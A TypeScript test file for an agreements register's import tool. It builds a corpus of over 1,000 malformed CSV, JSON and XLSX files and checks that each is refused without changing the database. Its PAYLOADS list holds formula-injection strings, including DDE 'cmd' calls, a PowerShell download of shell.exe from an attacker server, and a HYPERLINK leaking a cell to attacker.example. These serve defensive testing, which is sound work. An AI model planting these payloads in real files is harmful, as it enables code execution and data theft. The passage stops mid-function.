// A corpus of 1,000+ broken import files (CSV, JSON and XLSX: rows cut short,
// wrong cell counts, impossible dates, cycles, contradictions, formulas,
// wrong JSON types, cells over their column's limit, workbooks with stray far
// cells and floods of blank rows). Each goes through the verbs as the command
// line runs them, once as a dry run and once for real, and must be refused
// both times with the same problems, each naming its file and, where the
// defect is in a row, that row and column; the database is compared with a
// fingerprint of every table's contents after each file, not assumed
// unchanged.
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../src/db/client.ts';
import { createContactSurface } from '../../src/domain/contact-surfaces/save.ts';
import { addOrganisation } from '../../src/domain/accounts/add-organisation.ts';
import type { CreateContactSurfaceInput } from '../../src/domain/contact-surfaces/schemas.ts';
import type { Context } from '../../src/domain/context.ts';
import { DomainError } from '../../src/domain/errors.ts';
import { changeArticle, getArticle } from '../../src/domain/knowledge/articles.ts';
import { applyImport } from '../../src/domain/transfer/exchange/apply.ts';
import { writeCsv } from '../../src/domain/transfer/exchange/export.ts';
import { COLUMNS, type TableName } from '../../src/domain/transfer/exchange/format.ts';
import { planImport } from '../../src/domain/transfer/exchange/plan.ts';
import { readFiles, type InputFile, type Problem } from '../../src/domain/transfer/exchange/read.ts';
import { openTestDatabase, systemCtx, type TestDatabase } from '../support/database.ts';
import { fingerprint } from '../support/fingerprint.ts';

let shipped: TestDatabase;
beforeAll(async () => {
  shipped = await openTestDatabase();
});
afterAll(async () => shipped?.close());

async function exportTable(ctx: Context, table: TableName): Promise<string[][]> {
  const chunks: Buffer[] = [];
  await writeCsv(ctx, table, new Writable({ write: (chunk, _e, done) => (chunks.push(Buffer.from(chunk)), done()) }));
  return parse(Buffer.concat(chunks).toString().replace(/^\uFEFF/, '')) as string[][];
}

interface Verdict {
  refused: boolean;
  problems: Problem[];
}

/** What the command line does with files: read, plan, then apply (or apply rolled back). */
async function verdict(ctx: Context, files: InputFile[], dryRun: boolean): Promise<Verdict> {
  const read = await readFiles(files);
  const plan = await planImport(ctx, read.tables, read.problems);
  if (plan.problems.length) return { refused: true, problems: plan.problems };
  try {
    await applyImport(ctx, plan, { dryRun });
    return { refused: false, problems: [] };
  } catch (error) {
    if (!(error instanceof DomainError)) throw error;
    return { refused: true, problems: [{ file: files.map((f) => f.name).join(', '), message: error.message }] };
  }
}

interface Broken {
  name: string;
  files: InputFile[];
  /** Where the defect is, when it is in one row: the row as a spreadsheet numbers it, and the column. */
  row?: number;
  column?: string;
}

function rng(seed: number) {
  let x = seed;
  return () => (x = (x * 1103515245 + 12345) % 2147483648) / 2147483648;
}

// Formula payloads: payloadbox/csv-injection-payloads (README.md,
// https://github.com/payloadbox/csv-injection-payloads), OWASP's "CSV
// Injection" (https://owasp.org/www-community/attacks/CSV_Injection), and
// the one of issue 18.
const PAYLOADS = [
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
  '=1+1',
];
/** Impossible dates, and forms of EDTF the register does not take. */
const DATES = ['2019-02-29', '1900-02-29', '0000', '0000-01-01', '2019-21', '2019-24', '2019-13', '2019-00', '2019-04-31', '2022/2002', '2019?', '201X', '2019-05-14T10:00', '[2019,2020]', '{2019..2021}', 'Y12019'];
/** The same payload as it hides: behind blanks, a tab, a return, a no-break space, or with a full-width sign. */
const hidden = (payload: string): string[] => [
  payload,
  ` ${payload}`,
  `\t${payload}`,
  `\r\n${payload}`,
  `\u00a0${payload}`,
  payload.replace(/^[=+\-@]/, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
];

/**
 * Sends each case through the dry run and apply; gives back what went
 * wrong: a case that passed, verdicts that differ, a problem that names no
 * file of the case or not the defect's row and column, a database that
 * changed (compared every 25 files and after the last).
 */
async function refuseEach(ctx: Context, all: Broken[], before: Record<string, string>): Promise<string[]> {
  const misses: string[] = [];
  let checked = 0;
  for (const c of all) {
    const dry = await verdict(ctx, c.files, true);
    const applied = await verdict(ctx, c.files, false);
    const names = c.files.map((f) => f.name);
    if (!dry.refused) misses.push(`${c.name}: passed`);
    if (JSON.stringify(dry) !== JSON.stringify(applied)) misses.push(`${c.name}: the dry run said ${JSON.stringify(dry).slice(0, 300)}, apply ${JSON.stringify(applied).slice(0, 300)}`);
    for (const p of dry.problems) {
      if (!names.some((n) => p.file.startsWith(n))) misses.push(`${c.name}: a problem names no file of the case: ${JSON.stringify(p).slice(0, 300)}`);
      if (p.message.length > 400) misses.push(`${c.name}: a message of ${p.message.length} characters`);
    }
    if (c.row !== undefined && !dry.problems.some((p) => p.row === c.row && (c.column === undefined || p.column === c.column))) {
      misses.push(`${c.name}: no problem names row ${c.row}${c.column ? `, column ${c.column}` : ''}: ${JSON.stringify(dry.problems).slice(0, 400)}`);
    }
    // Compared every 25 files and after the last: a write would stay, so none can pass unseen.
    if (++checked % 25 === 0 || checked === all.length) {
      const now = await fingerprint(ctx);
      if (JSON.stringify(now) !== JSON.stringify(before)) {
        misses.push(`the database changed within files ${checked - 24}–${checked} (up to ${c.name}): ${Object.keys(now).filter((t) => now[t] !== before[t]).join(', ')}`);
        break;
      }
    }
  }
  if (checked !== all.length) misses.push(`checked ${checked} of ${all.length}`);
  return misses;
}

describe('a corpus of broken import files', () => {
  let header: string[];
  let base: string[][];
  let register: string[][];
  let actors: string[][];
  const col = (name: string) => header.indexOf(name);

  beforeAll(async () => {
    register = await exportTable(shipped.anonymous, 'agreements');
    header = register[0]!;
    base = register.slice(0, 9);
    actors = (await exportTable(shipped.anonymous, 'actors')).slice(0, 6);
  });

  const csv = (sheet: string[][], delimiter = ',') => Buffer.from(stringify(sheet, { bom: true, delimiter }));
  const withCell = (sheet: string[][], row: number, column: string, value: string) => sheet.map((r, i) => (i === row - 1 ? r.map((c, j) => (j === sheet[0]!.indexOf(column) ? value : c)) : r));

  async function xlsx(sheet: Array<Array<ExcelJS.CellValue>>, extra?: (ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
    const workbook = new ExcelJS.Workbook();
    const ws = workbook.addWorksheet('agreements');
    for (const row of sheet) ws.addRow(row);
    extra?.(ws);
    return Buffer.from(await workbook.xlsx.writeBuffer());
  }

  async function cases(): Promise<Broken[]> {
    const random = rng(18);
    const list: Broken[] = [];
    const rows = base.length;
    const width = header.length;
    const file = (sheet: string[][], delimiter = ',') => [{ name: 'agreements.csv', bytes: csv(sheet, delimiter) }];

    // Rows cut short and rows too long, in every row, at many places.
    for (let r = 2; r <= rows; r++) {
      for (let keep = 1; keep < width; keep++) {
        list.push({ name: `row ${r} cut to ${keep} cells`, files: file(base.map((x, i) => (i === r - 1 ? x.slice(0, keep) : x)), keep % 4 ? ',' : ';'), row: r, column: header[keep] });
      }
      for (const more of [1, 2, 5]) list.push({ name: `row ${r} with ${more} cells more`, files: file(base.map((x, i) => (i === r - 1 ? [...x, ...Array(more).fill('x')] : x))), row: r, column: String(width + 1) });
    }
    // A file cut off inside its last row (a download or copy that stopped).
    const text = stringify(base);
    for (let k = 0; k < 40; k++) {
      const lastStart = text.lastIndexOf('\n', text.length - 2) + 1;
      const lastRow = text.slice(lastStart);
      const cutAt = lastStart + 1 + Math.floor(random() * (lastRow.lastIndexOf(',') - 1));
      list.push({ name: `file cut at byte ${cutAt}`, files: [{ name: 'cut.csv', bytes: Buffer.from(text.slice(0, cutAt)) }], row: rows });
    }

    // Impossible and undocumented dates in every date column and row.
    const dates = DATES;
    for (let r = 2; r <= rows; r++) {
      for (const date of dates) {
        for (const column of ['event_date', random() < 0.5 ? 'signed_on' : 'ends_on']) list.push({ name: `${column} ${date}`, files: file(withCell(base, r, column, date)), row: r, column });
      }
    }

    // The term, renewal and notice in numbers: not numbers, not whole, out of range; a renewal or notice
    // without the term it runs from (said at the term's cell: the agreement's first row); a notice in both units.
    const firstRowOf = (r: number) => 1 + base.findIndex((x) => x[col('agreement')] === base[r - 1]![col('agreement')]);
    for (let r = 2; r <= rows; r++) {
      for (const value of ['-1', '0', 'x', '1.5', '1201', '36 månader', '3 år']) list.push({ name: `term_months ${value}`, files: file(withCell(base, r, 'term_months', value)), row: r, column: 'term_months' });
      for (const [column, value] of [['renewal_months', '-2'], ['renewal_months', '0'], ['renewal_months', 'tolv'], ['notice_months', '-1'], ['notice_months', '1201'], ['notice_days', '-1'], ['notice_days', '36501'], ['notice_days', '2.5']] as const) {
        list.push({ name: `${column} ${value}`, files: file(withCell(withCell(base, r, 'term_months', '24'), r, column, value)), row: r, column });
      }
      for (const column of ['renewal_months', 'notice_months', 'notice_days']) list.push({ name: `${column} without a term`, files: file(withCell(base, r, column, '12')), row: firstRowOf(r), column: 'term_months' });
      list.push({ name: 'notice in months and days', files: file(withCell(withCell(withCell(base, r, 'term_months', '24'), r, 'notice_months', '3'), r, 'notice_days', '90')), row: r, column: 'notice_days' });
    }

    // Formulas in text columns, plain and hidden.
    const textColumns = ['official_title', 'funding', 'term', 'summary', 'event_note', 'deciding_body', 'reference', 'case_number', 'renewal_rule', 'themes'];
    for (const payload of PAYLOADS) {
      for (const variant of hidden(payload)) {
        for (let k = 0; k < 2; k++) {
          const r = 2 + Math.floor(random() * (rows - 1));
          const column = textColumns[Math.floor(random() * textColumns.length)]!;
          list.push({ name: `formula ${JSON.stringify(variant)} in ${column}`, files: file(withCell(base, r, column, variant)), row: r, column });
        }
      }
    }

    // Cells over their column's limit, in every column, and a few of a megabyte.
    for (const c of COLUMNS.agreements) {
      const r = 2 + Math.floor(random() * (rows - 1));
      list.push({ name: `${c.name} of ${c.max + 1} characters`, files: file(withCell(base, r, c.name, 'x'.repeat(c.max + 1))), row: r, column: c.name });
    }
    for (const column of ['summary', 'event_note', 'parties']) list.push({ name: `1 MB in ${column}`, files: file(withCell(base, 3, column, 'å'.repeat(1 << 20))), row: 3, column });

    // Contradictions: a municipality code with another body's name; an actor's code and id naming two bodies.
    const kalixName = 'Kalix kommun';
    for (let r = 2; r <= rows; r++) {
      const parties = base[r - 1]![col('parties')]!;
      const coded = /^(\d{4}) /.exec(parties);
      if (coded) list.push({ name: `row ${r}: code ${coded[1]} with the name ${kalixName}`, files: file(withCell(base, r, 'parties', parties.replace(/^(\d{4}) [^|]*/, `$1 ${kalixName}`))), row: r, column: 'parties' });
    }
    const actorCode = actors[0]!.indexOf('municipality_code');
    const coded = actors.slice(1).filter((a) => a[actorCode]);
    for (const [i, a] of coded.entries()) {
      const other = coded[(i + 1) % coded.length]!;
      if (other === a) continue;
      const row = a.map((c, j) => (j === actorCode ? other[actorCode]! : c));
      list.push({ name: `actor ${a[0]} with ${other[0]}'s code`, files: [{ name: 'actors.csv', bytes: csv([actors[0]!, row]) }], row: 2, column: 'municipality_code' });
    }

    // Cycles: agreements that are their own parent or ancestor, in the file and with the register.
    const slugs = [...new Set(register.slice(1).map((r) => r[0]!))];
    const rowsOf = (slug: string) => register.filter((r, i) => i > 0 && r[0] === slug);
    const withParent = (slug: string, parent: string) => rowsOf(slug).map((r) => r.map((c, j) => (j === col('parent') ? parent : c)));
    for (let k = 0; k < 12; k++) {
      const a = slugs[(k * 7) % slugs.length]!;
      const b = slugs[(k * 7 + 3) % slugs.length]!;
      list.push({ name: `${a} its own parent`, files: file([header, ...withParent(a, a)]), row: 2, column: 'parent' });
      list.push({ name: `${a} and ${b} each other's parent`, files: file([header, ...withParent(a, b), ...withParent(b, a)]), row: 2, column: 'parent' });
    }
    // The register has goteborg--shanghai--2003 inside goteborg--shanghai.
    list.push({ name: 'goteborg--shanghai inside its own child', files: file([header, ...withParent('goteborg--shanghai', 'goteborg--shanghai--2003')]), row: 2, column: 'parent' });
    // Counterparts: inside each other in the file, inside itself, moved.
    const places = 'counterpart,country,parent,name_latin,level\n';
    for (let k = 0; k < 10; k++) {
      list.push({ name: 'places inside each other', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}ort-a-${k},CN,ort-b-${k},Ort A${k},county\nort-b-${k},CN,ort-a-${k},Ort B${k},county\n`) }], row: 2, column: 'parent' });
    }
    list.push({ name: 'Lanzhou inside itself', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}lanzhou,CN,Gansu > Lanzhou,Lanzhou,prefecture_city\n`) }], row: 2, column: 'parent' });
    list.push({ name: 'Gansu inside Lanzhou', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}gansu,CN,Gansu > Lanzhou,Gansu,province\n`) }], row: 2, column: 'parent' });
    list.push({ name: 'Lanzhou moved to Zhejiang', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}lanzhou,CN,Zhejiang,Lanzhou,prefecture_city\n`) }], row: 2, column: 'parent' });

    // JSON: values of the wrong type in every column, and broken files.
    const objects = base.slice(1).map((r) => Object.fromEntries(header.flatMap((h, j) => (r[j] ? [[h, r[j]]] : []))));
    for (const c of COLUMNS.agreements) {
      for (const value of [true, false, 12, 1.5, null, {}, [], ['a'], { text: 'x' }]) {
        if (c.number && typeof value === 'number') continue;
        const r = 2 + Math.floor(random() * objects.length);
        const json = { agreements: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: value } : o)) };
        list.push({ name: `json ${c.name}: ${JSON.stringify(value)}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify(json)) }], row: r, column: c.name });
      }
      const r = 2 + Math.floor(random() * objects.length);
      const json = { agreements: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: 'x'.repeat(c.max + 1) } : o)) };
      list.push({ name: `json ${c.name} too long`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify(json)) }], row: r, column: c.name });
    }
    const whole = JSON.stringify({ agreements: objects });
    for (let k = 0; k < 20; k++) list.push({ name: 'json cut short', files: [{ name: 'cut.json', bytes: Buffer.from(whole.slice(0, 10 + Math.floor(random() * (whole.length - 20)))) }] });
    for (const [column, value] of [['term_months', -5], ['term_months', 1.5], ['term_months', 0], ['notice_days', 40_000]] as const) {
      const json = { agreements: objects.map((o, i) => (i === 2 ? { ...o, term_months: 24, [column]: value } : o)) };
      list.push({ name: `json ${column} ${value}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify(json)) }], row: 4, column });
    }
    for (const date of dates.slice(0, 8)) {
      list.push({ name: `json date ${date}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ agreements: objects.map((o, i) => (i === 2 ? { ...o, event_date: date } : o)) })) }], row: 4, column: 'event_date' });
    }

    // XLSX, with the reader of today and a streaming one alike (kept few: a workbook takes longer).
    const sheetRows = base.map((r) => [...r]);
    list.push({ name: 'xlsx formula cell', files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 3, 'official_title', '').map((r, i) => (i === 2 ? r.map((c, j) => (j === col('official_title') ? { formula: '1+1', result: 2 } : c)) : r))) }], row: 3, column: 'official_title' });
    for (const payload of PAYLOADS.slice(0, 4)) list.push({ name: `xlsx text ${payload}`, files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 4, 'summary', payload)) }], row: 4, column: 'summary' });
    for (const date of ['2019-02-29', '0000', '2019-21']) list.push({ name: `xlsx date ${date}`, files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 5, 'event_date', date)) }], row: 5, column: 'event_date' });
    list.push({ name: 'xlsx huge cell', files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 2, 'event_note', 'x'.repeat(10_001))) }], row: 2, column: 'event_note' });
    list.push({ name: 'xlsx term -12', files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 3, 'term_months', '').map((r, i) => (i === 2 ? r.map((c, j) => (j === col('term_months') ? -12 : c)) : r))) }], row: 3, column: 'term_months' });
    // A stray cell far right (column XFD) in a data row.
    list.push({ name: 'xlsx stray cell in XFD', files: [{ name: 'a.xlsx', bytes: await xlsx(sheetRows, (ws) => (ws.getCell('XFD3').value = 'stray')) }], row: 3, column: 'XFD' });
    // A flood of blank rows (cells written but empty), then a row with a formula.
    list.push({
      name: 'xlsx blank-row flood, then a formula',
      files: [{ name: 'a.xlsx', bytes: await xlsx(sheetRows, (ws) => {
        for (let r = 0; r < 2_000; r++) ws.addRow(['', '', '']);
        ws.addRow([...base[1]!.slice(0, col('official_title')), '=cmd|\' /C calc\'!A0', ...base[1]!.slice(col('official_title') + 1)]);
      }) }],
      row: rows + 2_001,
      column: 'official_title',
    });
    return list;
  }

  it('refuses each of 1,000+ broken files in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
    const ctx = systemCtx(shipped);
    const all = await cases();
    expect(all.length).toBeGreaterThanOrEqual(1_000);
    const kinds = { csv: 0, json: 0, xlsx: 0 };
    for (const c of all) for (const f of c.files) kinds[f.name.endsWith('.json') ? 'json' : f.name.endsWith('.xlsx') ? 'xlsx' : 'csv']++;
    expect(kinds.json).toBeGreaterThan(200);
    expect(kinds.xlsx).toBeGreaterThan(5);
    const before = await fingerprint(ctx);

    // The unbroken base passes both ways and writes nothing (it is the register's own rows): the problems below come from the breakage.
    const control = [{ name: 'agreements.csv', bytes: csv(base) }];
    expect(await verdict(ctx, control, true)).toEqual({ refused: false, problems: [] });
    expect(await verdict(ctx, control, false)).toEqual({ refused: false, problems: [] });
    expect(await fingerprint(ctx)).toEqual(before);

    expect(await refuseEach(ctx, all, before)).toEqual([]);
  });
});

describe('a corpus of broken action plans and activities', () => {
  let plans: string[][];
  let activities: string[][];
  const csv = (sheet: string[][], delimiter = ',') => Buffer.from(stringify(sheet, { bom: true, delimiter }));
  const withCell = (sheet: string[][], row: number, column: string, value: string) => sheet.map((r, i) => (i === row - 1 ? r.map((c, j) => (j === sheet[0]!.indexOf(column) ? value : c)) : r));
  /** A plan's column on each of its rows (the shipped register has one plan): what the plan's check reads, not only that rows differ. */
  const withPlanCell = (column: string, value: string) => plans.map((r, i) => (i === 0 ? r : r.map((c, j) => (j === plans[0]!.indexOf(column) ? value : c))));

  beforeAll(async () => {
    plans = await exportTable(shipped.anonymous, 'action_plans');
    activities = await exportTable(shipped.anonymous, 'activities');
  });

  async function cases(): Promise<Broken[]> {
    const random = rng(20);
    const list: Broken[] = [];
    const a = (sheet: string[][], delimiter = ',') => [{ name: 'activities.csv', bytes: csv(sheet, delimiter) }];
    const p = (sheet: string[][]) => [{ name: 'action_plans.csv', bytes: csv(sheet) }];
    const rows = activities.length;
    const anyRow = () => 2 + Math.floor(random() * (rows - 1));
    const costs = ['cost_sek', 'cost_travel_sek', 'cost_hospitality_sek', 'cost_project_sek', 'cost_other_sek'];
    const counts = ['participants_politicians', 'participants_officials', 'participants_companies', 'participants_education', 'participants_students'];

    // Costs and head counts: negative, not numbers, not whole, too large; in every row.
    for (let r = 2; r <= rows; r++) {
      for (const column of costs) for (const value of ['-1', '-250', 'abc', '12 kr', '1e5', '1,5', '3000000000']) list.push({ name: `${column} ${value}`, files: a(withCell(activities, r, column, value)), row: r, column });
      for (const column of counts) for (const value of ['-3', 'många', '2.5']) list.push({ name: `${column} ${value}`, files: a(withCell(activities, r, column, value)), row: r, column });
      // A breakdown that does not add up to the whole.
      for (const part of costs.slice(1)) {
        const sheet = withCell(withCell(activities, r, part, '100'), r, 'cost_sek', '50');
        list.push({ name: `${part} 100, cost_sek 50`, files: a(sheet), row: r, column: 'cost_sek' });
      }
      for (const kind of ['visit', 'VISIT_OUTGOING', 'möte', 'visit-outgoing', 'x']) list.push({ name: `kind ${kind}`, files: a(withCell(activities, r, 'kind', kind)), row: r, column: 'kind' });
      for (const slug of ['no-such-agreement', 'kalix', 'Linkoping--Guangzhou']) list.push({ name: `agreement ${slug}`, files: a(withCell(activities, r, 'agreement', slug)), row: r, column: 'agreement' });
      for (const funding of ['own budget', 'sida', 'own_budget | x', 'EU']) list.push({ name: `funding ${funding}`, files: a(withCell(activities, r, 'funding', funding)), row: r, column: 'funding' });
      for (const date of DATES) list.push({ name: `date ${date}`, files: a(withCell(activities, r, 'date', date)), row: r, column: 'date' });
      // Goals: of no plan, of a plan that does not serve the agreement (the shipped plan is Linköping–Guangzhou's), numbers that are none.
      const linkoping = activities[r - 1]![activities[0]!.indexOf('agreement')] === 'linkoping--guangzhou';
      const planTitle = plans[1]![0]!;
      list.push({ name: 'goal of no plan', files: a(withCell(withCell(activities, r, 'action_plan', 'Ingen sådan plan'), r, 'goal', '1')), row: r, column: 'action_plan' });
      list.push({ name: 'goal without a plan', files: a(withCell(withCell(activities, r, 'action_plan', ''), r, 'goal', '2')), row: r, column: 'action_plan' });
      list.push({ name: 'plan without a goal', files: a(withCell(withCell(activities, r, 'action_plan', planTitle), r, 'goal', '')), row: r, column: 'goal' });
      for (const goal of ['0', '-1', '1.5', 'x']) list.push({ name: `goal ${goal}`, files: a(withCell(withCell(activities, r, 'action_plan', planTitle), r, 'goal', goal)), row: r, column: 'goal' });
      list.push({ name: 'goal 99', files: a(withCell(withCell(activities, r, 'action_plan', planTitle), r, 'goal', '99')), row: r, column: linkoping ? 'goal' : 'action_plan' });
      // Further agreements and places: unknown, its own agreement, named twice, more than 50, a code with another body's name.
      const own = activities[r - 1]![activities[0]!.indexOf('agreement')]!;
      for (const further of ['no-such-agreement', own, 'bengtsfors--wuzhou | bengtsfors--wuzhou', 'Linkoping--Guangzhou', 'kalix']) list.push({ name: `also_serves ${further}`, files: a(withCell(activities, r, 'also_serves', further)), row: r, column: 'also_serves' });
      for (const body of ['9999', '9999 Atlantis kommun', 'Atlantis kommun', 'no-such-body', '0580 Kalix kommun', 'linkoping | 0580', Array(51).fill('linkoping').join(' | ')]) {
        list.push({ name: `swedish_places ${body.slice(0, 40)}`, files: a(withCell(activities, r, 'swedish_places', body)), row: r, column: 'swedish_places' });
      }
      for (const place of ['Atlantis > Nowhere', 'Gansu > Nowhere', 'guangzhou | Guangdong > Guangzhou', 'Zhejiang > > Huzhou', 'no-such-place', Array(51).fill('guangzhou').join(' | ')]) {
        list.push({ name: `chinese_places ${place.slice(0, 40)}`, files: a(withCell(activities, r, 'chinese_places', place)), row: r, column: 'chinese_places' });
      }
    }
    // A goal of another plan: a second plan (of Bengtsfors–Wuzhou, with goal 9) in the same import; Linköping's activities name Linköping's plan with 9.
    const other = [plans[0]!, plans[0]!.map((c) => ({ action_plan: 'Bengtsfors plan', agreement: 'bengtsfors--wuzhou', period_from: '2019', period_to: '2020', goal: '9', theme: 'Kultur', goal_text: 'Mer kultur' })[c] ?? '')];
    for (let r = 2; r <= rows; r++) {
      const onLinkoping = withCell(withCell(withCell(activities, r, 'agreement', 'linkoping--guangzhou'), r, 'action_plan', plans[1]![0]!), r, 'goal', '9');
      list.push({ name: 'a goal of another plan', files: [...p(other), ...a(onLinkoping)], row: r, column: 'goal' });
      const onBengtsfors = withCell(withCell(withCell(activities, r, 'agreement', 'linkoping--guangzhou'), r, 'action_plan', 'Bengtsfors plan'), r, 'goal', '9');
      list.push({ name: "a goal of a plan that does not serve the activity's agreement", files: [...p(other), ...a(onBengtsfors)], row: r, column: 'action_plan' });
    }
    // Cells over their column's limit, in every column; formulas in text columns, plain and hidden.
    for (const c of COLUMNS.activities) {
      const r = anyRow();
      list.push({ name: `activities ${c.name} of ${c.max + 1} characters`, files: a(withCell(activities, r, c.name, 'x'.repeat(c.max + 1))), row: r, column: c.name });
    }
    const textColumns = ['activity', 'title_en', 'purpose', 'outcome', 'outcome_en', 'funding', 'sources', 'action_plan', 'also_serves', 'swedish_places', 'chinese_places'];
    for (const payload of PAYLOADS) {
      for (const variant of hidden(payload)) {
        const r = anyRow();
        const column = textColumns[Math.floor(random() * textColumns.length)]!;
        list.push({ name: `formula ${JSON.stringify(variant)} in activities ${column}`, files: a(withCell(activities, r, column, variant), random() < 0.3 ? ';' : ','), row: r, column });
      }
    }

    // Action plans: the plan's columns on each of its rows, a goal's on its row.
    const goalRows = plans.length;
    for (const date of DATES) for (const column of ['period_from', 'period_to']) list.push({ name: `${column} ${date}`, files: p(withPlanCell(column, date)), row: 2, column });
    list.push({ name: 'period ends before it begins', files: p(withPlanCell('period_to', '2010')), row: 2, column: 'period_to' });
    for (const value of ['-1', 'x', '1.5', '3000000000']) list.push({ name: `budget_sek ${value}`, files: p(withPlanCell('budget_sek', value)), row: 2, column: 'budget_sek' });
    for (const value of ['2019', '2019-13-01', '2019-02-29', 'i går', '2019~']) list.push({ name: `reviewed_on ${value}`, files: p(withPlanCell('reviewed_on', value)), row: 2, column: 'reviewed_on' });
    for (const value of ['no-such-agreement', 'linkoping--guangzhou', 'bengtsfors--wuzhou | bengtsfors--wuzhou']) list.push({ name: `also_serves ${value}`, files: p(withPlanCell('also_serves', value)), row: 2, column: 'also_serves' });
    list.push({ name: 'plan of no agreement', files: p(withPlanCell('agreement', 'no-such-agreement')), row: 2, column: 'agreement' });
    for (const source of ['no-such-source', 'nkk2022 | nope: s. 3']) list.push({ name: `plan sources ${source}`, files: p(withPlanCell('sources', source)), row: 2, column: 'sources' });
    for (let r = 2; r <= goalRows; r++) {
      for (const value of ['good', 'MET', 'met!', 'delvis']) list.push({ name: `assessment ${value}`, files: p(withCell(plans, r, 'assessment', value)), row: r, column: 'assessment' });
      for (const value of ['0', '-1', '1.5', 'x', '1001']) list.push({ name: `goal number ${value}`, files: p(withCell(plans, r, 'goal', value)), row: r, column: 'goal' });
      if (r > 2) list.push({ name: 'a goal number twice', files: p(withCell(plans, r, 'goal', plans[1]![plans[0]!.indexOf('goal')]!)), row: r, column: 'goal' });
      list.push({ name: 'a goal without its theme', files: p(withCell(plans, r, 'theme', '')), row: r, column: 'theme' });
      list.push({ name: 'a goal without its text', files: p(withCell(plans, r, 'goal_text', '')), row: r, column: 'goal_text' });
      list.push({ name: 'a goal without its number', files: p(withCell(plans, r, 'goal', '')), row: r, column: 'goal' });
      // (On row 2, the first, the rows after it are the ones said to differ.)
      if (r > 2) list.push({ name: "a row's plan columns differ", files: p(withCell(plans, r, 'period_to', '2030')), row: r, column: 'period_to' });
      for (const date of DATES.slice(0, 4)) if (r > 2) list.push({ name: `period_from ${date} on one row`, files: p(withCell(plans, r, 'period_from', date)), row: r, column: 'period_from' });
    }
    for (const c of COLUMNS.action_plans) {
      const r = 2 + Math.floor(random() * (goalRows - 1));
      list.push({ name: `action_plans ${c.name} of ${c.max + 1} characters`, files: p(withCell(plans, r, c.name, 'x'.repeat(c.max + 1))), row: r, column: c.name });
    }
    for (const payload of PAYLOADS) {
      for (const variant of hidden(payload)) {
        const r = 2 + Math.floor(random() * (goalRows - 1));
        const column = ['theme', 'goal_text', 'indicator', 'outcome', 'assessment_note', 'planned_activities'][Math.floor(random() * 6)]!;
        list.push({ name: `formula ${JSON.stringify(variant)} in action_plans ${column}`, files: p(withCell(plans, r, column, variant)), row: r, column });
      }
    }

    // JSON: values of the wrong type in every column of both tables.
    for (const [table, sheet] of [['activities', activities], ['action_plans', plans]] as const) {
      const objects = sheet.slice(1).map((r) => Object.fromEntries(sheet[0]!.flatMap((h, j) => (r[j] ? [[h, r[j]]] : []))));
      for (const c of COLUMNS[table]) {
        for (const value of [true, 12, null, {}, ['a']]) {
          if (c.number && typeof value === 'number') continue;
          const r = 2 + Math.floor(random() * objects.length);
          list.push({ name: `json ${table} ${c.name}: ${JSON.stringify(value)}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ [table]: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: value } : o)) })) }], row: r, column: c.name });
        }
      }
      for (const value of [-5, 1.5, 3e9]) {
        const r = 2 + Math.floor(random() * objects.length);
        const column = table === 'activities' ? 'cost_travel_sek' : 'budget_sek';
        const changed = objects.map((o, i) => (i === r - 2 ? (table === 'activities' ? { ...o, cost_sek: undefined, [column]: value } : Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === column ? value : v]))) : o));
        // A plan's budget on each of its rows.
        const json = table === 'action_plans' ? objects.map((o) => ({ ...o, budget_sek: value })) : changed;
        list.push({ name: `json ${table} ${column} ${value}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ [table]: json })) }], row: table === 'action_plans' ? 2 : r, column });
      }
    }

    // XLSX: a formula cell, dates, a cost below zero.
    const workbook = async (table: string, sheet: ExcelJS.CellValue[][]) => {
      const book = new ExcelJS.Workbook();
      const ws = book.addWorksheet(table);
      for (const row of sheet) ws.addRow(row);
      return [{ name: `${table}.xlsx`, bytes: Buffer.from(await book.xlsx.writeBuffer()) }];
    };
    const at = (column: string) => activities[0]!.indexOf(column);
    list.push({ name: 'xlsx formula cell', files: await workbook('activities', activities.map((r, i) => (i === 2 ? r.map((c, j) => (j === at('outcome') ? { formula: '1+1', result: 2 } : c)) : r))), row: 3, column: 'outcome' });
    for (const date of ['2019-02-29', '0000', '2019-21']) list.push({ name: `xlsx activity date ${date}`, files: await workbook('activities', withCell(activities, 4, 'date', date)), row: 4, column: 'date' });
    list.push({ name: 'xlsx cost -1', files: await workbook('activities', withCell(activities, 5, 'cost_other_sek', '-1')), row: 5, column: 'cost_other_sek' });
    list.push({ name: 'xlsx unknown place', files: await workbook('activities', withCell(activities, 3, 'chinese_places', 'Gansu > Nowhere')), row: 3, column: 'chinese_places' });
